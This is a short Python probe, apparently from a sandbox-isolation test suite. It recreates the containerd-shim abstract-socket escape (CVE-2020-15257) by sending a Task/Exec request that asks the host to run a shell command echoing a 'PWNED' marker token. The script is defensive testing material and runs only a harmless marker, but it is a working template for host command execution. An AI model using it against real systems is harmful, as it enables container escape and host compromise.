# family: injection
# tries: drive a host service on an abstract unix socket (argv 6), as containers sharing the host's network namespace drove containerd-shim's: send it a request to run "echo PWNED TOKEN" on the host
# source: https://nvd.nist.gov/vuln/detail/CVE-2020-15257
# exfil: no
# stopped-when: pwned-absent
# attempted-when: marker
#
# Reading no secret at all, this is harm as soon as the request reaches
# the host service.
import json
import socket
import sys

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
print(f"ATTEMPTED {sys.argv[1]}", file=sys.stderr, flush=True)
token, name = sys.argv[1], sys.argv[6]
req = json.dumps({"method": "containerd.task.v2.Task/Exec",
                  "args": ["/bin/sh", "-c", f"echo PWNED {token}"]}).encode() + b"\n"
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.settimeout(3)
try:
    s.connect("\0" + name)
    s.sendall(req)
    print(f"sent the request to @{name}")
except OSError as e:
    print(f"@{name}: {e}")
